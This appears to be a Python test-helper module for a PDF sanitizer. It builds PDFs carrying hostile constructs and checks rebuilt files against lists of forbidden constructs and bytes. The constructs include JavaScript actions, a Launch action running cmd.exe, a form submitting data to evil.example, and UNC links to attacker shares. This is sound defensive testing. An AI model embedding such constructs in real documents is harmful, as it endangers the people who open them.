@@ -1,0 +1,544 @@
+"""Build PDFs carrying hostile constructs with pikepdf, and read outputs back independently.
+
+The readers here do not share code with ``sanitizers.pdf``: constructs are found by a
+raw pikepdf walk of every object plus a byte search of a fully decompressed copy, and
+text and page counts come from PDFium.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+import warnings
+from collections.abc import Callable, Iterator, Sequence
+from pathlib import Path
+from typing import Any
+
+import pikepdf
+import pypdfium2 as pdfium
+from pikepdf import Array, Dictionary, Name, String
+from pikepdf.exceptions import PageCopyWarning
+
+Builder = Callable[[pikepdf.Pdf], None]
+
+PAGE_TEXTS = ("First page of the notice", "Second page with the details")
+
+
+# -- documents ------------------------------------------------------------------------
+
+
+def new_document(texts: Sequence[str] = PAGE_TEXTS) -> pikepdf.Pdf:
+    """A plain Helvetica text document, one line per page."""
+    pdf = pikepdf.Pdf.new()
+    font = pdf.make_indirect(
+        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
+    )
+    for text in texts:
+        content = b"BT /F1 20 Tf 72 700 Td (%s) Tj ET" % text.encode("latin-1")
+        page = Dictionary(
+            Type=Name.Page,
+            MediaBox=Array([0, 0, 595, 842]),
+            Resources=Dictionary(Font=Dictionary(F1=font)),
+            Contents=pdf.make_stream(content),
+        )
+        pdf.pages.append(pikepdf.Page(page))
+    return pdf
+
+
+def japanese_document(lines: Sequence[str], *, predefined_cmap: bool = False) -> pikepdf.Pdf:
+    """Japanese text in a non-embedded CID font (HeiseiMin).
+
+    By default the codes are mapped to Unicode by a ToUnicode CMap (what current tools
+    write); with ``predefined_cmap`` only by the UniJIS-UCS2-H encoding, as older
+    Japanese tools wrote them.
+    """
+    pdf = pikepdf.Pdf.new()
+    codes = sorted({ord(c) for line in lines for c in line})
+    mapping = (
+        {"Encoding": Name("/UniJIS-UCS2-H")}
+        if predefined_cmap
+        else {"Encoding": Name("/Identity-H"), "ToUnicode": pdf.make_stream(_to_unicode_cmap(codes))}
+    )
+    font = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Font,
+            Subtype=Name.Type0,
+            BaseFont=Name("/HeiseiMin-W3"),
+            **mapping,
+            DescendantFonts=Array(
+                [
+                    Dictionary(
+                        Type=Name.Font,
+                        Subtype=Name.CIDFontType0,
+                        BaseFont=Name("/HeiseiMin-W3"),
+                        CIDSystemInfo=Dictionary(
+                            Registry=String("Adobe"), Ordering=String("Japan1"), Supplement=2
+                        ),
+                        FontDescriptor=Dictionary(
+                            Type=Name.FontDescriptor,
+                            FontName=Name("/HeiseiMin-W3"),
+                            Flags=6,
+                            FontBBox=Array([0, -120, 1000, 880]),
+                            ItalicAngle=0,
+                            Ascent=880,
+                            Descent=-120,
+                            CapHeight=700,
+                            StemV=80,
+                        ),
+                        DW=1000,
+                    )
+                ]
+            ),
+        )
+    )
+    shows = b" ".join(b"<%s> Tj 0 -30 Td" % "".join(f"{ord(c):04X}" for c in line).encode() for line in lines)
+    page = Dictionary(
+        Type=Name.Page,
+        MediaBox=Array([0, 0, 595, 842]),
+        Resources=Dictionary(Font=Dictionary(F1=font)),
+        Contents=pdf.make_stream(b"BT /F1 20 Tf 72 700 Td " + shows + b" ET"),
+    )
+    pdf.pages.append(pikepdf.Page(page))
+    return pdf
+
+
+def _to_unicode_cmap(codes: Sequence[int]) -> bytes:
+    """Identity-H codes here are the Unicode values themselves."""
+    mappings = "\n".join(f"<{c:04X}> <{c:04X}>" for c in codes)
+    return (
+        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
+        "/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
+        "/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
+        "1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
+        f"{len(codes)} beginbfchar\n{mappings}\nendbfchar\n"
+        "endcmap CMapName currentdict /CMap defineresource pop end end\n"
+    ).encode()
+
+
+def save(pdf: pikepdf.Pdf, path: Path, **options: Any) -> Path:
+    pdf.save(path, **options)
+    return path
+
+
+def build(path: Path, *builders: Builder, texts: Sequence[str] = PAGE_TEXTS) -> Path:
+    """A plain document with each builder applied, saved with object streams."""
+    pdf = new_document(texts)
+    for builder in builders:
+        builder(pdf)
+    return save(pdf, path, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+
+
+# -- constructs -----------------------------------------------------------------------
+
+
+def js_action(script: str = "app.alert('pwned')") -> Dictionary:
+    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(script))
+
+
+def goto_action(pdf: pikepdf.Pdf, page_index: int = 1) -> Dictionary:
+    return Dictionary(S=Name.GoTo, D=Array([pdf.pages[page_index].obj, Name.Fit]))
+
+
+def uri_action(uri: str) -> Dictionary:
+    return Dictionary(S=Name.URI, URI=String(uri))
+
+
+def add_annotation(pdf: pikepdf.Pdf, annotation: Dictionary, page_index: int = 0) -> pikepdf.Object:
+    annotation.Type = Name.Annot
+    if "/Rect" not in annotation:
+        annotation.Rect = Array([72, 600, 300, 640])
+    indirect = pdf.make_indirect(annotation)
+    page = pdf.pages[page_index].obj
+    if "/Annots" not in page:
+        page.Annots = Array()
+    page.Annots.append(indirect)
+    return indirect
+
+
+def add_link(pdf: pikepdf.Pdf, action: Dictionary, page_index: int = 0) -> pikepdf.Object:
+    return add_annotation(pdf, Dictionary(Subtype=Name.Link, A=pdf.make_indirect(action)), page_index)
+
+
+def action_link(kind: str, **entries: object) -> Builder:
+    """A link annotation whose action is of type ``kind``."""
+
+    def builder(pdf: pikepdf.Pdf) -> None:
+        add_link(pdf, Dictionary(S=Name(kind), **entries))
+
+    return builder
+
+
+def open_action_js(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = pdf.make_indirect(js_action())
+
+
+def open_action_launch(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = Dictionary(
+        S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")), F=String("calc.exe")
+    )
+
+
+def catalog_aa(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.AA = Dictionary(WC=js_action(), WS=js_action(), DP=js_action())
+
+
+def page_aa(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[1].obj.AA = Dictionary(O=js_action("page open"), C=js_action("page close"))
+
+
+def annotation_aa(pdf: pikepdf.Pdf) -> None:
+    add_annotation(pdf, Dictionary(Subtype=Name.Square, AA=Dictionary(E=js_action("mouse enter"))))
+
+
+def names_javascript(pdf: pikepdf.Pdf) -> None:
+    tree = Dictionary(Names=Array([String("a"), pdf.make_indirect(js_action()), String("b"), js_action()]))
+    pdf.Root.Names = Dictionary(JavaScript=tree)
+
+
+def next_chain_js(pdf: pikepdf.Pdf) -> None:
+    """A harmless GoTo link whose /Next chain runs JavaScript, and loops back on itself."""
+    first = pdf.make_indirect(goto_action(pdf))
+    second = pdf.make_indirect(js_action("chained"))
+    first.Next = Array([second])
+    second.Next = first
+    add_annotation(pdf, Dictionary(Subtype=Name.Link, A=first))
+
+
+def outline_js(pdf: pikepdf.Pdf) -> None:
+    """Two outline items, one GoTo (kept) and one JavaScript, in a sibling loop."""
+    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
+    good = pdf.make_indirect(Dictionary(Title=String("Details"), Parent=outlines, A=goto_action(pdf)))
+    bad = pdf.make_indirect(Dictionary(Title=String("Run"), Parent=outlines, A=js_action("outline")))
+    good.Next, bad.Prev = bad, good
+    bad.Next = good  # a cycle: readers must not loop, nor may we
+    outlines.First, outlines.Last = good, bad
+    pdf.Root.Outlines = outlines
+
+
+def form_with_js_and_xfa(pdf: pikepdf.Pdf) -> None:
+    """An AcroForm text field with an appearance, a keystroke script, a submit button, and XFA."""
+    appearance = pdf.make_stream(
+        b"/Tx BMC BT /F1 12 Tf 2 6 Td (Taro Yamada) Tj ET EMC",
+        Type=Name.XObject,
+        Subtype=Name.Form,
+        BBox=Array([0, 0, 200, 20]),
+        Resources=Dictionary(Font=pdf.pages[0].obj.Resources.Font),
+    )
+    field = add_annotation(
+        pdf,
+        Dictionary(
+            Subtype=Name.Widget,
+            FT=Name.Tx,
+            T=String("applicant"),
+            V=String("Taro Yamada"),
+            Rect=Array([72, 500, 272, 520]),
+            AP=Dictionary(N=appearance),
+            AA=Dictionary(K=js_action("keystroke"), F=js_action("format")),
+        ),
+    )
+    button = add_annotation(
+        pdf,
+        Dictionary(
+            Subtype=Name.Widget,
+            FT=Name.Btn,
+            Ff=65536,
+            T=String("send"),
+            Rect=Array([72, 450, 172, 470]),
+            A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/collect")),
+        ),
+    )
+    xfa = pdf.make_stream(
+        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>"
+    )
+    pdf.Root.AcroForm = Dictionary(Fields=Array([field, button]), XFA=xfa)
+    pdf.Root.NeedsRendering = True
+
+
+def embedded_file_names(pdf: pikepdf.Pdf) -> None:
+    payload = pdf.make_stream(b"MZ\x90\x00 not really an executable", Type=Name.EmbeddedFile)
+    spec = Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=payload))
+    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), spec])))
+
+
+def file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
+    payload = pdf.make_stream(b"attached payload", Type=Name.EmbeddedFile)
+    spec = Dictionary(Type=Name.Filespec, F=String("a.docm"), EF=Dictionary(F=payload))
+    attachment = add_annotation(pdf, Dictionary(Subtype=Name.FileAttachment, FS=spec))
+    # A popup still points at the removed annotation: the payload must not ride along.
+    add_annotation(pdf, Dictionary(Subtype=Name.Popup, Parent=attachment))
+
+
+def multimedia_annotations(pdf: pikepdf.Pdf) -> None:
+    for subtype in ("/RichMedia", "/3D", "/Movie", "/Sound", "/Screen"):
+        add_annotation(pdf, Dictionary(Subtype=Name(subtype)))
+
+
+def web_capture(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.Names = Dictionary(
+        IDS=Dictionary(Names=Array([String("id"), Dictionary(URL=String("http://x"))])),
+        URLS=Dictionary(Names=Array([String("http://x"), Dictionary()])),
+    )
+    pdf.Root.SpiderInfo = Dictionary(V=1.0)
+
+
+def piece_info(pdf: pikepdf.Pdf) -> None:
+    private = Dictionary(Illustrator=Dictionary(Private=String("app data"), LastModified=String("D:2024")))
+    pdf.Root.PieceInfo = private
+    pdf.pages[0].obj.PieceInfo = private
+
+
+def metadata(pdf: pikepdf.Pdf) -> None:
+    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
+        meta["dc:creator"] = ["Secret Author"]
+    pdf.docinfo["/Author"] = "Secret Author"
+    pdf.docinfo["/Custom"] = "internal note"
+
+
+def external_stream(pdf: pikepdf.Pdf) -> None:
+    """Stream data fetched from a network share when the reader decodes it."""
+    stream = pdf.make_stream(b"", F=String("\\\\attacker\\share\\data.bin"))
+    pdf.pages[0].obj.Resources.XObject = Dictionary(X0=stream)
+
+
+def web_links(pdf: pikepdf.Pdf) -> None:
+    for uri in (
+        "https://www.city.example.lg.jp/",
+        "http://example.org/a b",
+        "mailto:soumu@city.example.lg.jp",
+    ):
+        add_link(pdf, uri_action(uri))
+
+
+BAD_URIS = (
+    "file:///C:/Windows/System32/calc.exe",
+    "\\\\attacker\\share\\payload.exe",
+    "javascript:app.alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "smb://attacker/share",
+    "  https://leading-space.example/",
+    "mailto:a@example.org?attach=/etc/passwd",
+)
+
+
+def bad_links(pdf: pikepdf.Pdf) -> None:
+    for uri in BAD_URIS:
+        add_link(pdf, uri_action(uri))
+
+
+def internal_link(pdf: pikepdf.Pdf) -> None:
+    add_link(pdf, goto_action(pdf))
+
+
+#: Construct → (builder, finding construct the rebuild must report).
+HOSTILE: dict[str, tuple[Builder, str]] = {
+    "open_action_js": (open_action_js, "pdf.open_action"),
+    "open_action_launch": (open_action_launch, "pdf.launch"),
+    "catalog_aa": (catalog_aa, "pdf.additional_actions"),
+    "page_aa": (page_aa, "pdf.additional_actions"),
+    "annotation_aa": (annotation_aa, "pdf.additional_actions"),
+    "names_javascript": (names_javascript, "pdf.javascript"),
+    "next_chain_js": (next_chain_js, "pdf.javascript"),
+    "outline_js": (outline_js, "pdf.javascript"),
+    "form_js_xfa": (form_with_js_and_xfa, "pdf.xfa"),
+    "embedded_files": (embedded_file_names, "pdf.embedded_file"),
+    "file_attachment": (file_attachment_annotation, "pdf.embedded_file"),
+    "multimedia": (multimedia_annotations, "pdf.rich_media"),
+    "web_capture": (web_capture, "pdf.web_capture"),
+    "piece_info": (piece_info, "pdf.piece_info"),
+    "metadata": (metadata, "pdf.metadata"),
+    "external_stream": (external_stream, "pdf.external_stream"),
+    "bad_links": (bad_links, "pdf.uri"),
+    "launch": (action_link("/Launch", F=String("calc.exe")), "pdf.launch"),
+    "gotor": (
+        action_link("/GoToR", F=String("\\\\host\\share\\x.pdf"), D=Array([0, Name.Fit])),
+        "pdf.remote_goto",
+    ),
+    "gotoe": (action_link("/GoToE", T=Dictionary(R=Name.C, N=String("x"))), "pdf.embedded_goto"),
+    "import_data": (action_link("/ImportData", F=String("data.fdf")), "pdf.import_data"),
+    "submit_form": (action_link("/SubmitForm", F=String("http://evil.example/")), "pdf.submit_form"),
+    "reset_form": (action_link("/ResetForm"), "pdf.reset_form"),
+    "rendition": (action_link("/Rendition", OP=0), "pdf.rendition"),
+    "sound": (action_link("/Sound"), "pdf.sound"),
+    "movie": (action_link("/Movie"), "pdf.movie"),
+    "rich_media_execute": (action_link("/RichMediaExecute"), "pdf.rich_media"),
+    "hide": (action_link("/Hide", T=String("field")), "pdf.hide"),
+    "trans": (action_link("/Trans"), "pdf.transition_action"),
+    "unknown_action": (action_link("/FutureAction"), "pdf.action"),
+    "named_menu": (action_link("/Named", N=Name("/SaveAs")), "pdf.named_action"),
+}
+
+
+# -- byte-level tricks ----------------------------------------------------------------
+
+
+def plain_bytes(pdf: pikepdf.Pdf) -> bytes:
+    """An uncompressed, object-stream-free serialisation (names appear literally)."""
+    buffer = io.BytesIO()
+    pdf.save(
+        buffer,
+        object_stream_mode=pikepdf.ObjectStreamMode.disable,
+        compress_streams=False,
+        stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
+    )
+    return buffer.getvalue()
+
+
+def append_incremental_update(base: bytes, page_object: int, new_content: bytes) -> bytes:
+    """Append an incremental update that replaces one page's content stream."""
+    previous_xref = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
+    size = int(re.findall(rb"/Size (\d+)", base)[-1])
+    page = re.search(rb"\n%d 0 obj\n(.*?)endobj" % page_object, base, re.S)
+    assert page is not None
+    new_page = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % size, page.group(1))
+    offset_page = len(base) + 1
+    body = b"\n%d 0 obj\n%sendobj\n" % (page_object, new_page)
+    offset_content = len(base) + len(body)
+    body += b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
+        size,
+        len(new_content) + 1,
+        new_content,
+    )
+    xref_offset = len(base) + len(body)
+    root = re.findall(rb"/Root (\d+ 0 R)", base)[-1]
+    xref = (
+        b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n"
+        b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
+    ) % (page_object, offset_page, size, offset_content, size + 1, root, previous_xref, xref_offset)
+    return base + body + xref
+
+
+# -- independent readers --------------------------------------------------------------
+
+
+def pdfium_texts(path: Path) -> list[str]:
+    document = pdfium.PdfDocument(path)
+    try:
+        texts = []
+        for index in range(len(document)):
+            page = document[index]
+            text_page = page.get_textpage()
+            texts.append(text_page.get_text_range())
+            text_page.close()
+            page.close()
+        return texts
+    finally:
+        document.close()
+
+
+def pdfium_page_sizes(path: Path) -> list[tuple[float, float]]:
+    document = pdfium.PdfDocument(path)
+    try:
+        return [tuple(document[i].get_size()) for i in range(len(document))]
+    finally:
+        document.close()
+
+
+def all_values(pdf: pikepdf.Pdf) -> Iterator[tuple[str, object]]:
+    """(key, value) for every dictionary entry of every object, nested values included."""
+    pending: list[object] = [pdf.trailer, *pdf.objects]
+    seen: set[tuple[int, int]] = set()
+    while pending:
+        item = pending.pop()
+        if not isinstance(item, pikepdf.Object):
+            continue
+        if item.is_indirect:
+            if item.objgen in seen:
+                continue
+            seen.add(item.objgen)
+        if isinstance(item, pikepdf.Array):
+            pending.extend(item)
+        elif isinstance(item, pikepdf.Dictionary | pikepdf.Stream):
+            for key, value in item.items():
+                yield key, value
+                pending.append(value)
+
+
+def constructs_in(path: Path) -> set[str]:
+    """Every key, /S action type, /Subtype and /Type name found anywhere in the file."""
+    found: set[str] = set()
+    with pikepdf.open(path) as pdf:
+        if pdf.is_encrypted:
+            found.add("/Encrypt")
+        for key, value in all_values(pdf):
+            found.add(key)
+            if key in ("/S", "/Subtype", "/Type") and isinstance(value, pikepdf.Name):
+                found.add(f"{key}{value}")
+    return found
+
+
+def uris_in(path: Path) -> set[str]:
+    with pikepdf.open(path) as pdf:
+        return {
+            str(value)
+            for key, value in all_values(pdf)
+            if key == "/URI" and isinstance(value, pikepdf.String)
+        }
+
+
+def decompressed_bytes(path: Path) -> bytes:
+    """The whole file re-serialised with every stream decoded and no object streams."""
+    with pikepdf.open(path) as pdf, warnings.catch_warnings():
+        warnings.simplefilter("ignore", PageCopyWarning)  # widgets outside /AcroForm: not our concern
+        buffer = io.BytesIO()
+        pdf.save(
+            buffer,
+            object_stream_mode=pikepdf.ObjectStreamMode.disable,
+            compress_streams=False,
+            stream_decode_level=pikepdf.StreamDecodeLevel.all,
+            qdf=True,
+        )
+        return buffer.getvalue()
+
+
+#: What no rebuilt file may contain, as found by ``constructs_in``.
+FORBIDDEN_CONSTRUCTS = frozenset(
+    {
+        "/JS",
+        "/JavaScript",
+        "/S/JavaScript",
+        "/AA",
+        "/EmbeddedFiles",
+        "/EF",
+        "/Type/EmbeddedFile",
+        "/XFA",
+        "/IDS",
+        "/URLS",
+        "/SpiderInfo",
+        "/PieceInfo",
+        "/Encrypt",
+        "/S/Launch",
+        "/S/GoToR",
+        "/S/GoToE",
+        "/S/ImportData",
+        "/S/SubmitForm",
+        "/S/ResetForm",
+        "/S/Rendition",
+        "/S/Sound",
+        "/S/Movie",
+        "/S/RichMediaExecute",
+        "/S/Hide",
+        "/S/Trans",
+        "/S/FutureAction",
+        "/Subtype/FileAttachment",
+        "/Subtype/RichMedia",
+        "/Subtype/3D",
+        "/Subtype/Movie",
+        "/Subtype/Sound",
+        "/Subtype/Screen",
+    }
+)
+
+#: Byte strings that must not appear in the decompressed output of a rebuild.
+FORBIDDEN_BYTES = (
+    b"/JavaScript",
+    b"/JS ",
+    b"/JS(",
+    b"/AA",
+    b"/Launch",
+    b"/EmbeddedFile",
+    b"/XFA",
+    b"app.alert",
+    b"calc.exe",
+    b"not really an executable",
+    b"attached payload",
+)
